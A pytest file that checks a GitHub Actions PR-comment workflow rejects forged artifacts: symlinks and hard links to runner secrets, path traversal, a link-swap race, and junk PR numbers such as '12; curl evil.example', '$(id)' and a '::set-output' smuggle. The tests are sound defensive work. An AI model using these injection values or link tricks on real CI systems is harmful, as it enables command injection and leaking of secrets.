"""The PR comment through ``workflow_run``: gate.yml hands over an artifact, gate-comment.yml
(the default branch's file) posts it. Everything in the artifact is untrusted data.

The shell steps are taken from the workflow files themselves and run with bash, so what is
tested is what runs; ``gate comment`` runs against the local GitHub (tests/support/fake_github.py)
with the vendored ``workflow_run.completed`` payload from ``@octokit/webhooks-examples``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from fake_github import FakeGitHub, load_event, run_gate, use_fake_github
from paths import REPO

from gate.github.artifact import MAX_REPORTS, REPORT_MAX_BYTES
from gate.github.comment import MARKER

ROOT = REPO
WORKFLOWS = ROOT / ".github" / "workflows"
BASH = shutil.which("bash")
REPO = "acme/agents"
PR = 12
OTHER = 13
HEAD = "c" * 40
OTHER_HEAD = "e" * 40
TOKEN = "ghs_workflow_run_comment_token_0123"
BOT = "github-actions[bot]"
HEAD_REPO = "mallory/agents"
HEAD_BRANCH = "feature"

pytestmark = pytest.mark.skipif(BASH is None, reason="bash is not installed")


def step(workflow: str, job: str, name: str) -> dict[str, Any]:
    data: dict[Any, Any] = yaml.safe_load((WORKFLOWS / workflow).read_text(encoding="utf-8"))
    (found,) = [s for s in data["jobs"][job]["steps"] if s.get("name") == name]
    result: dict[str, Any] = found
    return result


def gate_on_path(where: Path) -> str:
    """A PATH whose ``gate`` is this gate (the workflow installs it; here it is the venv's)."""
    shim = where / "gate-bin"
    shim.mkdir(exist_ok=True)
    (shim / "gate").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m gate "$@"\n')
    (shim / "gate").chmod(0o755)
    return f"{shim}{os.pathsep}{os.environ['PATH']}"


def run_step(workflow: str, job: str, name: str, cwd: Path,
             env: dict[str, str]) -> tuple[int, str, dict[str, str]]:
    """Run a step's ``run:`` script as Actions does (bash -e), returning (exit code, stdout,
    what it wrote to $GITHUB_OUTPUT)."""
    assert BASH is not None
    output = cwd / "github-output.txt"
    output.write_text("")
    script = step(workflow, job, name)["run"]
    proc = subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=cwd,
        env={"PATH": gate_on_path(cwd), "GITHUB_OUTPUT": str(output),
             "GITHUB_STEP_SUMMARY": str(cwd / "step-summary.md"),
             "RUNNER_TEMP": str(cwd), **env},
        capture_output=True, text=True, timeout=60, check=False)
    lines = [ln.split("=", 1) for ln in output.read_text().splitlines() if "=" in ln]
    return proc.returncode, proc.stdout + proc.stderr, {k: v for k, v in lines}


def workflow_run_event(head_sha: str) -> dict[str, Any]:
    """The vendored payload as GitHub sends it after a fork PR's gate run: event
    pull_request, and an empty ``pull_requests`` (GitHub lists none for forks)."""
    event = load_event("workflow_run.completed")
    run = event["workflow_run"]
    run.update(event="pull_request", conclusion="failure", status="completed", name="gate",
               head_sha=head_sha, pull_requests=[], head_branch=HEAD_BRANCH)
    run["head_repository"]["full_name"] = HEAD_REPO
    event["repository"]["full_name"] = REPO
    return event


def github_scenario(fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """This module's GitHub (the ``gh`` fixture of tests/conftest.py serves it)."""
    fake.add_token(TOKEN, BOT, installation=True)
    fake.add_repo(REPO)
    fake.add_pull(REPO, PR, "mallory", "b" * 40, HEAD, head_repo=HEAD_REPO,
                  head_ref=HEAD_BRANCH)
    fake.add_pull(REPO, OTHER, "carol", "b" * 40, OTHER_HEAD)
    use_fake_github(monkeypatch, fake, tmp_path, token=TOKEN, repo=REPO,
                    event=workflow_run_event(HEAD))


def artifact(tmp_path: Path, number: str | bytes,
             reports: dict[str, str] | None = None) -> Path:
    """A downloaded ``gate-comment`` artifact: pr-number and runs/<name>/report.md."""
    root = tmp_path / "gate-comment"
    (root / "runs").mkdir(parents=True)
    raw = number.encode() if isinstance(number, str) else number
    (root / "pr-number").write_bytes(raw)
    for name, text in (reports or {"sweep-a": "## gate\nreport A\n"}).items():
        (root / "runs" / name).mkdir()
        (root / "runs" / name / "report.md").write_text(text, encoding="utf-8")
    return root


def which_pr(tmp_path: Path, root: Path) -> tuple[int, str, str | None]:
    """gate-comment.yml's "Which PR" step: (exit code, log, the number it outputs)."""
    code, log, out = run_step("reusable-gate-comment.yml", "comment", "Which PR", tmp_path,
                              {"ARTIFACT": str(root / "pr-number")})
    return code, log, out.get("number")


def post(tmp_path: Path, root: Path) -> int:
    """gate-comment.yml's last two steps, as the workflow runs them."""
    code, _log, number = which_pr(tmp_path, root)
    if code != 0:
        return 10 + code
    assert number is not None
    found = step("reusable-gate-comment.yml", "comment", "gate comment")
    assert found["run"] == ('gate comment --pr "$PR_NUMBER" --head-sha "$HEAD_SHA" --head-repo '
                            '"$HEAD_REPO" --head-branch "$HEAD_BRANCH" --runs-in "$RUNS"')
    assert found["env"]["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert found["env"]["HEAD_REPO"] == (
        "${{ github.event.workflow_run.head_repository.full_name }}")
    assert found["env"]["HEAD_BRANCH"] == "${{ github.event.workflow_run.head_branch }}"
    run = json.loads(Path(os.environ["GITHUB_EVENT_PATH"]).read_text())["workflow_run"]
    return run_gate("comment", "--pr", number, "--head-sha", run["head_sha"],
                    "--head-repo", run["head_repository"]["full_name"],
                    "--head-branch", run["head_branch"], "--runs-in", str(root / "runs"))


def nothing_posted(fake: FakeGitHub, tmp_path: Path) -> bool:
    summary = tmp_path / "summary.md"
    return (fake.comments(REPO, PR) == [] and fake.comments(REPO, OTHER) == []
            and not (summary.exists() and summary.read_text()))


# --- the hand-over, end to end ------------------------------------------------------------


def test_fork_pr_gets_its_comment_through_the_artifact(gh: FakeGitHub, tmp_path: Path) -> None:
    # gate.yml's decision job (PR code, read-only token) builds the artifact ...
    work = tmp_path / "job"
    for name, text in {"model-x": "## gate: model-x\npass\n", "none": "## gate\nsmoke\n"}.items():
        (work / "runs" / name).mkdir(parents=True)
        (work / "runs" / name / "report.md").write_text(text)
    (work / "run-dirs.txt").write_text("runs/model-x\nruns/none\n")
    code, log, _out = run_step("reusable-gate.yml", "report",
                               "Hand the reports to gate-comment.yml", work,
                               {"PR_NUMBER": str(PR)})
    assert code == 0, log
    handed = work / "gate-comment"
    assert sorted(p.relative_to(handed).as_posix() for p in handed.rglob("*")) == [
        "pr-number", "runs", "runs/model-x", "runs/model-x/report.md", "runs/none",
        "runs/none/report.md"]
    # ... and gate-comment.yml (default branch) posts it, though pull_requests is empty
    assert post(tmp_path, handed) == 0
    (comment,) = gh.comments(REPO, PR)
    assert comment.user == BOT
    assert comment.body == f"{MARKER}\n## gate: model-x\npass\n\n---\n\n## gate\nsmoke\n"
    assert "## gate: model-x" in (tmp_path / "summary.md").read_text()


@pytest.mark.parametrize(("results", "expected"), [
    ({"FORK": "true", "DRAFT": "false"}, "> [!WARNING]\n> **Not evaluated: do not merge yet** "
     "(required check `gate` failed).\n> Fork PR for head `ccccccc`: no secrets"),
    ({"FORK": "false", "DRAFT": "true"}, "> [!WARNING]\n> **Not evaluated: do not merge yet** "
     "(required check `gate` failed).\n> Draft PR for head `ccccccc`: smoke test only."),
    ({"HAS_SWEEPS": "false"}, "> [!TIP]\n> **No sweep needed: nothing to compare** "
     "(required check `gate` passed).\n> No prompt, tool or model change for head `ccccccc`"),
    ({"SMOKE_RESULT": "failure"}, "> [!CAUTION]\n> **Smoke failed: do not merge** "
     "(required check `gate` failed).\n> The smoke test failed for head `ccccccc`"),
    ({"CHANGES_RESULT": "failure", "SMOKE_RESULT": "skipped", "HAS_SWEEPS": ""},
     "> [!WARNING]\n> **No result: not decided** (required check `gate` failed).\n> "
     "`gate changes` failed for head `ccccccc`"),
    ({}, "> [!WARNING]\n> **No result: not decided** (required check `gate` failed).\n> The "
     "sweeps this PR needs produced no results for head `ccccccc`"),
])
def test_a_pr_without_sweep_results_gets_gates_own_no_report_state(
        tmp_path: Path, results: dict[str, str], expected: str) -> None:
    env = {"CHANGES_RESULT": "success", "SMOKE_RESULT": "success", "FORK": "false",
           "DRAFT": "false", "HAS_SWEEPS": "true", "HEAD_SHA": HEAD, **results}
    code, log, _out = run_step("reusable-gate.yml", "report", "gate report", tmp_path, env)
    assert code == 0, log
    text = (tmp_path / "runs" / "none" / "report.md").read_text()
    assert text.startswith("<!-- gate:row ")
    assert "<!-- gate:verdict -->\n" + expected in text
    assert (tmp_path / "run-dirs.txt").read_text() == "runs/none\n"
    assert "## gate" not in step("reusable-gate.yml", "report", "gate report")["run"]


@pytest.mark.slow
def test_a_sweep_whose_report_fails_gets_a_no_result_block(tmp_path: Path) -> None:
    run = tmp_path / "runs" / "model-x"
    run.mkdir(parents=True)
    (run / "results.json").write_text("{}")  # gate report cannot read it
    (tmp_path / "changes.json").write_text("{}")
    code, log, _out = run_step("reusable-gate.yml", "report", "gate report", tmp_path, {
        "CHANGES_RESULT": "success", "SMOKE_RESULT": "success", "FORK": "false",
        "DRAFT": "false", "HAS_SWEEPS": "true", "HEAD_SHA": HEAD})
    assert code == 0, log
    text = (run / "report.md").read_text()
    assert text.startswith("<!-- gate:row WARNING | `model-x` | **No result** |")
    assert "> **No result: not decided** (required check `gate` failed).\n> `gate report` " \
           "failed for sweep `model-x` for head `ccccccc`" in text
    assert (tmp_path / "run-dirs.txt").read_text() == "runs/model-x\n"


def test_a_sweep_the_ledger_refused_is_posted_with_the_earlier_verdict(
        gh: FakeGitHub, tmp_path: Path) -> None:
    """`gate merge --ledger` refused runs/model-x (an earlier run of the PR decided that
    comparison, a pass): the gate job's report step, its hand-over and gate-comment.yml post
    the refusal's report, with that verdict and its passed check, never "No result"."""
    from gate.commands import earlier_exit
    from gate.engine.ledger import EarlierRun, Entry
    from gate.records import ArmSpec

    work = tmp_path / "job"
    arms = [ArmSpec(name=n, model=m, provider="openrouter", prompts_tools="worktree")
            for n, m in (("candidate", "vendor/new"), ("baseline", "vendor/old"))]
    refused = EarlierRun(Entry("20261205T2100-ab12", "runs/model-x", "pass", "0f", True), 2, arms)
    assert earlier_exit(refused, work / "runs" / "model-x") == 0  # the check passes
    (work / "changes.json").write_text("{}")
    env = {"CHANGES_RESULT": "success", "SMOKE_RESULT": "success", "FORK": "false",
           "DRAFT": "false", "HAS_SWEEPS": "true", "HEAD_SHA": HEAD, "PR_NUMBER": str(PR)}
    for name in ("gate report", "Hand the reports to gate-comment.yml"):
        code, log, _out = run_step("reusable-gate.yml", "report", name, work, env)
        assert code == 0, log
    assert (work / "run-dirs.txt").read_text() == "runs/model-x\n"
    assert post(tmp_path, work / "gate-comment") == 0
    (comment,) = gh.comments(REPO, PR)
    assert "> [!TIP]\n> **Pass: no regression found** (required check `gate` passed)." in (
        comment.body)
    assert "decided by an earlier run, `20261205T2100-ab12` in `runs/model-x`" in comment.body
    assert "holds 2 runs of this comparison" in comment.body
    assert "No result" not in comment.body


# --- forged artifacts: refused, nothing posted --------------------------------------------


def test_forged_number_of_another_pr_is_refused(gh: FakeGitHub, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    # The run was for PR 12's head; the artifact names PR 13 (a valid number, another PR).
    root = artifact(tmp_path, f"{OTHER}\n", {"x": "## gate\nall models pass, merge!\n"})
    assert post(tmp_path, root) == 1
    out = capsys.readouterr().out
    assert "refused, nothing posted" in out
    assert f"PR #{OTHER}'s head is eeeeeeeeeeee, the run was for cccccccccccc" in out
    assert nothing_posted(gh, tmp_path)


@pytest.mark.parametrize(("base_ref", "head_repo", "head_ref", "why"), [
    ("decoy", REPO, "evil", "head repository is acme/agents, the run was for mallory/agents"),
    ("main", HEAD_REPO, "other", "head branch is other, the run was for feature"),
])
def test_another_pr_sharing_the_head_commit_is_refused(
    gh: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], base_ref: str,
    head_repo: str, head_ref: str, why: str,
) -> None:
    # Class 11: PR 14 has the very head commit of PR 12's run, from another repository or
    # branch; PR 12's report must not land on it.
    gh.add_pull(REPO, 14, "mallory", "b" * 40, HEAD, head_repo=head_repo, base_ref=base_ref,
                head_ref=head_ref)
    assert post(tmp_path, artifact(tmp_path, "14\n")) == 1
    assert f"PR #14's {why}: not that PR's run" in capsys.readouterr().out
    assert gh.comments(REPO, 14) == []
    assert nothing_posted(gh, tmp_path)


def test_number_of_no_pull_request_is_refused(gh: FakeGitHub, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    root = artifact(tmp_path, "99\n")  # an issue, or nothing: never commented on
    assert post(tmp_path, root) == 1
    assert f"#99 is not a pull request of {REPO}" in capsys.readouterr().out
    assert nothing_posted(gh, tmp_path)


def test_run_for_an_older_head_is_refused(gh: FakeGitHub, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    # The PR moved on after this run: its report is stale, and the newer run posts.
    use_fake_github(monkeypatch, gh, tmp_path, token=TOKEN, repo=REPO,
                    event=workflow_run_event("0" * 40))
    assert post(tmp_path, artifact(tmp_path, f"{PR}\n")) == 1
    assert nothing_posted(gh, tmp_path)


@pytest.mark.parametrize("number", [
    b"", b"0\n", b"012\n", b"-12\n", b"12; curl evil.example\n", b"$(id)\n",
    b"1" * 11, b"1" * 10_000_000, b"\xff\xfe1\x002\n", b"::set-output name=number::13\n",
])
def test_junk_and_oversize_pr_numbers_are_refused(tmp_path: Path, number: bytes) -> None:
    root = artifact(tmp_path, number)
    code, log, read = which_pr(tmp_path, root)
    assert code == 1
    assert "no valid PR number" in log
    assert read is None


def test_valid_pr_number_is_read(tmp_path: Path) -> None:
    code, log, number = which_pr(tmp_path, artifact(tmp_path, f"{PR}\n"))
    assert (code, number) == (0, str(PR)), log


def test_pr_number_as_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside-number"
    outside.write_text(f"{PR}\n")
    root = artifact(tmp_path, "")
    (root / "pr-number").unlink()
    (root / "pr-number").symlink_to(outside)
    code, _log, number = which_pr(tmp_path, root)
    assert (code, number) == (1, None)


def _secret(tmp_path: Path) -> Path:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-RUNNER-FILE\n")
    return secret


def _link_report(root: Path, target: Path) -> None:
    (root / "runs" / "sweep-a" / "report.md").unlink()
    (root / "runs" / "sweep-a" / "report.md").symlink_to(target)


def _link_dir(root: Path, target: Path) -> None:
    os.symlink(target, root / "runs" / "sweep-b")


def _dotdot_link(root: Path, target: Path) -> None:
    os.symlink(os.path.relpath(target.parent, root / "runs"), root / "runs" / "up")


def _runs_is_a_link(root: Path, target: Path) -> None:
    shutil.rmtree(root / "runs")
    (target.parent / "elsewhere" / "x").mkdir(parents=True)
    shutil.copy(target, target.parent / "elsewhere" / "x" / "report.md")
    os.symlink(target.parent / "elsewhere", root / "runs")


def _hard_link(root: Path, target: Path) -> None:
    (root / "runs" / "sweep-a" / "report.md").unlink()
    os.link(target, root / "runs" / "sweep-a" / "report.md")


def _nested(root: Path, _target: Path) -> None:
    deep = root / "runs" / "sweep-a" / "deeper"
    deep.mkdir()
    (deep / "report.md").write_text("## gate\nfrom deeper\n")


def _extra_file(root: Path, _target: Path) -> None:
    (root / "runs" / "sweep-a" / "results.json").write_text("{}")


def _stray_file(root: Path, _target: Path) -> None:
    (root / "runs" / "report.md").write_text("## gate\nat the top\n")


def _odd_name(root: Path, _target: Path) -> None:
    (root / "runs" / "a\nb").mkdir()
    (root / "runs" / "a\nb" / "report.md").write_text("## gate\nodd\n")


def _dot_name(root: Path, _target: Path) -> None:
    (root / "runs" / "..hidden").mkdir()
    (root / "runs" / "..hidden" / "report.md").write_text("## gate\nhidden\n")


def _oversize(root: Path, _target: Path) -> None:
    (root / "runs" / "sweep-a" / "report.md").write_text("x" * (REPORT_MAX_BYTES + 1))


def _not_utf8(root: Path, _target: Path) -> None:
    (root / "runs" / "sweep-a" / "report.md").write_bytes(b"## gate\n\xff\xfe\n")


def _too_many(root: Path, _target: Path) -> None:
    for i in range(MAX_REPORTS):
        (root / "runs" / f"s{i:03d}").mkdir()
        (root / "runs" / f"s{i:03d}" / "report.md").write_text("## gate\n")


def _missing_report(root: Path, _target: Path) -> None:
    (root / "runs" / "sweep-a" / "report.md").unlink()


def _empty(root: Path, _target: Path) -> None:
    shutil.rmtree(root / "runs" / "sweep-a")


def _no_runs(root: Path, _target: Path) -> None:
    shutil.rmtree(root / "runs")


@pytest.mark.parametrize("forge", [
    _link_report, _link_dir, _dotdot_link, _runs_is_a_link, _hard_link, _nested, _extra_file,
    _stray_file, _odd_name, _dot_name, _oversize, _not_utf8, _too_many, _missing_report,
    _empty, _no_runs,
], ids=lambda f: f.__name__.strip("_"))
def test_forged_report_layout_is_refused(gh: FakeGitHub, tmp_path: Path, forge: Any,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    root = artifact(tmp_path, f"{PR}\n")
    secret = _secret(tmp_path)
    forge(root, secret)
    assert post(tmp_path, root) == 1
    out = capsys.readouterr().out
    assert "gate comment: refused, nothing posted: " in out
    assert "TOP-SECRET" not in out
    assert len(out.splitlines()) == 1  # one line: a name from the artifact is printed escaped
    assert nothing_posted(gh, tmp_path)
    assert gh.requests == []  # refused before any API call


def test_exact_layout_is_posted_sorted_and_neutralised(gh: FakeGitHub, tmp_path: Path) -> None:
    root = artifact(tmp_path, f"{PR}\n", {
        "b-sweep": "## gate: b\n",
        "a-sweep": "## gate: a\n<!-- gate-report -->\ncc @acme/core\n",
    })
    assert post(tmp_path, root) == 0
    (comment,) = gh.comments(REPO, PR)
    assert comment.body.startswith(f"{MARKER}\n## gate: a\n")
    assert comment.body.count(MARKER) == 1
    assert "@acme" not in comment.body
    assert comment.body.index("## gate: a") < comment.body.index("## gate: b")


def test_runs_in_needs_pr_and_head_sha(gh: FakeGitHub, tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    root = artifact(tmp_path, f"{PR}\n")
    with pytest.raises(SystemExit) as exc:
        run_gate("comment", "--runs-in", str(root / "runs"), "--pr", str(PR))
    assert exc.value.code == 4
    assert "--runs-in needs --pr, --head-sha, --head-repo and --head-branch" in (
        capsys.readouterr().err)
    with pytest.raises(SystemExit) as exc:  # class 11: the head repository and branch too
        run_gate("comment", "--runs-in", str(root / "runs"), "--pr", str(PR),
                 "--head-sha", HEAD)
    assert exc.value.code == 4
    with pytest.raises(SystemExit) as exc:
        run_gate("comment", "--runs-in", str(root / "runs"), "--pr", str(PR),
                 "--head-sha", "HEAD")
    assert exc.value.code == 4
    with pytest.raises(SystemExit) as exc:
        run_gate("comment", "--runs-in", str(root / "runs"), "--run", str(root / "runs" / "x"))
    assert exc.value.code == 4
    assert nothing_posted(gh, tmp_path)


def test_head_sha_check_also_guards_run(gh: FakeGitHub, tmp_path: Path) -> None:
    # --head-sha works with trusted --run directories too: the PR must be at that commit.
    run = tmp_path / "run"
    run.mkdir()
    (run / "report.md").write_text("## gate\nr\n")
    assert run_gate("comment", "--run", str(run), "--pr", str(OTHER), "--head-sha", HEAD) == 1
    assert run_gate("comment", "--run", str(run), "--pr", str(PR), "--head-sha", HEAD) == 0
    assert [c.body for c in gh.comments(REPO, PR)] == [f"{MARKER}\n## gate\nr\n"]


def test_directory_swapped_for_a_link_after_the_check_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The listing sees a directory; by the time it is opened it is a link to a runner folder.
    # Opening without following links refuses it: the check is not only a look beforehand.
    import gate.github.artifact as artifact_module
    from gate.errors import UntrustedArtifactError

    root = artifact(tmp_path, f"{PR}\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "report.md").write_text("TOP-SECRET-RUNNER-FILE\n")
    os.symlink(outside, root / "runs" / "sweep-b")
    real_stat = os.stat
    looks_like_a_dir = real_stat(root / "runs" / "sweep-a")

    def racing_stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        return looks_like_a_dir if path == "sweep-b" else real_stat(path, *args, **kwargs)

    monkeypatch.setattr(artifact_module.os, "stat", racing_stat)
    with pytest.raises(UntrustedArtifactError, match="cannot read as a plain directory tree"):
        artifact_module.read_untrusted_reports(root / "runs")


# --- the evaluating state and the no-report states (gate-comment.yml, no artifact read) ----

_EXPR = re.compile(r"\$\{\{\s*([A-Za-z0-9_.-]+)\s*\}\}")
RESULT = ("<!-- gate:row CAUTION | `model-x` vs `base` | **Regression** |  |  |  |  -->\n"
          "<!-- gate:verdict -->\n> [!CAUTION]\n> **Regression: do not merge** (required check "
          "`gate` failed). 25% vs 100%: -75 pp.\n")


def requested_event(head_sha: str) -> dict[str, Any]:
    """The vendored ``workflow_run.requested`` payload as GitHub sends it when a fork PR's
    gate run starts: event pull_request, no conclusion yet, an empty ``pull_requests``."""
    event = load_event("workflow_run.requested")
    run = event["workflow_run"]
    run.update(event="pull_request", status="queued", conclusion=None, name="gate",
               head_sha=head_sha, pull_requests=[], head_branch=HEAD_BRANCH)
    run["head_repository"]["full_name"] = HEAD_REPO
    event["repository"]["full_name"] = REPO
    return event


def run_gate_step(job: str, name: str, cwd: Path,
                  event: dict[str, Any]) -> tuple[int, str]:
    """A step of reusable-gate-comment.yml that runs gate, as Actions runs it: its ``env:``
    expressions resolved against the event, its script in bash with this gate on PATH,
    against the local GitHub."""
    assert BASH is not None
    found = step("reusable-gate-comment.yml", job, name)
    context: dict[str, Any] = {"github": {"token": os.environ["GITHUB_TOKEN"], "event": event}}

    def resolve(m: re.Match[str]) -> str:
        value: Any = context
        for key in m[1].split("."):
            value = value[key]
        return str(value)

    env = {k: _EXPR.sub(resolve, str(v)) for k, v in found.get("env", {}).items()}
    github = {k: v for k, v in os.environ.items() if k.startswith(("GITHUB_", "GATE_"))}
    proc = subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", "-c", found["run"]], cwd=cwd,
        env={"PATH": gate_on_path(cwd), **github, **env},
        capture_output=True, text=True, timeout=120, check=False)
    return proc.returncode, proc.stdout + proc.stderr


def evaluate(monkeypatch: pytest.MonkeyPatch, fake: FakeGitHub, tmp_path: Path,
             head_sha: str = HEAD) -> tuple[int, str]:
    """gate-comment.yml on ``workflow_run`` requested: its evaluating job's one gate step."""
    event = requested_event(head_sha)
    use_fake_github(monkeypatch, fake, tmp_path, token=TOKEN, repo=REPO, event=event)
    return run_gate_step("evaluating", "gate comment --evaluating", tmp_path, event)


def completed(monkeypatch: pytest.MonkeyPatch, fake: FakeGitHub, tmp_path: Path,
              conclusion: str) -> dict[str, Any]:
    event = workflow_run_event(HEAD)
    event["workflow_run"]["conclusion"] = conclusion
    use_fake_github(monkeypatch, fake, tmp_path, token=TOKEN, repo=REPO, event=event)
    return event


def test_evaluating_then_the_result_leave_one_comment(
        gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, log = evaluate(monkeypatch, gh, tmp_path)
    assert code == 0, log
    (first,) = gh.comments(REPO, PR)
    assert first.user == BOT
    assert first.body.startswith(f"{MARKER}\n> [!NOTE]\n> **Evaluating: wait for the result** "
                                 "(required check `gate` pending).\n> gate is running")
    assert "on head `ccccccc`" in first.body
    # the link is the gate run's (from the event's run id), not the comment workflow's
    assert "(https://github.example/acme/agents/actions/runs/289782451)" in first.body
    # the gate run completes; its artifact's report replaces the state in the same comment
    completed(monkeypatch, gh, tmp_path, "failure")
    assert post(tmp_path, artifact(tmp_path, f"{PR}\n", {"model-x": RESULT})) == 0
    (final,) = gh.comments(REPO, PR)
    assert final.id == first.id
    assert "Evaluating" not in final.body
    assert "> [!CAUTION]\n> **Regression: do not merge** (required check `gate` failed)" \
        in final.body


@pytest.mark.parametrize(("conclusion", "expected"), [
    ("cancelled", "> [!WARNING]\n> **No result: not decided** (required check `gate` "
     "cancelled).\n> The gate run for head `ccccccc` was cancelled before it reported."),
    ("timed_out", "> **No result: not decided** (required check `gate` timed out)."),
    ("startup_failure", "> **No result: not decided** (required check `gate` did not start)."),
    ("action_required", "> **Not evaluated: do not merge yet** (required check `gate` not "
     "run yet)."),
    ("success", "> **No result: not decided** (required check `gate` ended without a report)."
     "\n> The gate run for head `ccccccc` ended without a readable `gate-comment` artifact"),
    ("something_new", "(required check `gate` ended without a report)"),
])
@pytest.mark.slow
def test_a_run_ending_without_a_result_replaces_the_evaluating_state(
        gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, conclusion: str,
        expected: str) -> None:
    assert evaluate(monkeypatch, gh, tmp_path)[0] == 0
    event = completed(monkeypatch, gh, tmp_path, conclusion)
    code, log = run_gate_step("comment", "gate comment --no-report", tmp_path, event)
    assert code == 0, log
    (comment,) = gh.comments(REPO, PR)
    assert comment.body.startswith(f"{MARKER}\n> [!")
    assert expected in comment.body
    assert "Evaluating" not in comment.body
    assert conclusion not in comment.body or conclusion in expected  # never echoed raw


@pytest.mark.slow
def test_a_forged_artifact_leaves_a_no_result_on_the_runs_own_pr(
        gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert evaluate(monkeypatch, gh, tmp_path)[0] == 0
    event = completed(monkeypatch, gh, tmp_path, "success")
    root = artifact(tmp_path, f"{OTHER}\n", {"x": "## gate\nall models pass, merge!\n"})
    assert post(tmp_path, root) == 1  # the artifact names PR 13: refused
    code, log = run_gate_step("comment", "gate comment --no-report", tmp_path, event)
    assert code == 0, log
    (comment,) = gh.comments(REPO, PR)
    assert "**No result: not decided**" in comment.body
    assert gh.comments(REPO, OTHER) == []


@pytest.mark.slow
def test_states_for_a_head_the_pr_has_left_post_nothing(
        gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, log = evaluate(monkeypatch, gh, tmp_path, head_sha="0" * 40)
    assert code == 0, log
    assert "nothing posted: no open pull request has head 000000000000" in log
    event = completed(monkeypatch, gh, tmp_path, "cancelled")
    event["workflow_run"]["head_sha"] = "0" * 40  # the push that cancelled it moved the PR
    code, log = run_gate_step("comment", "gate comment --no-report", tmp_path, event)
    assert code == 0, log
    assert nothing_posted(gh, tmp_path)


@pytest.mark.slow
def test_states_go_only_to_the_one_pr_whose_head_is_the_runs(
        gh: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # PR 14 shares the head commit from another repository: not the run's PR
    gh.add_pull(REPO, 14, "carol", "b" * 40, HEAD, head_repo=REPO, head_ref=HEAD_BRANCH)
    assert evaluate(monkeypatch, gh, tmp_path)[0] == 0
    assert len(gh.comments(REPO, PR)) == 1
    assert gh.comments(REPO, 14) == []
    # PR 15 has the same head repository, branch and commit (into another base): ambiguous
    gh.add_pull(REPO, 15, "mallory", "b" * 40, HEAD, head_repo=HEAD_REPO,
                head_ref=HEAD_BRANCH, base_ref="release")
    event = completed(monkeypatch, gh, tmp_path, "cancelled")
    code, log = run_gate_step("comment", "gate comment --no-report", tmp_path, event)
    assert code == 0, log
    assert "nothing posted: 2 open pull requests have head cccccccccccc" in log
    assert "Evaluating" in gh.comments(REPO, PR)[0].body
    assert gh.comments(REPO, 15) == []


@pytest.mark.parametrize("argv", [
    ["--evaluating", "--head-sha", HEAD],
    ["--no-report", "cancelled", "--head-sha", HEAD, "--head-repo", HEAD_REPO],
    ["--no-report", "a reason of its own"],
    ["--no-report", "cancelled", "--evaluating"],
])
def test_states_without_a_full_head_or_with_an_unknown_reason_are_refused(
        gh: FakeGitHub, tmp_path: Path, argv: list[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        run_gate("comment", *argv)
    assert exc.value.code == 4
    assert nothing_posted(gh, tmp_path)
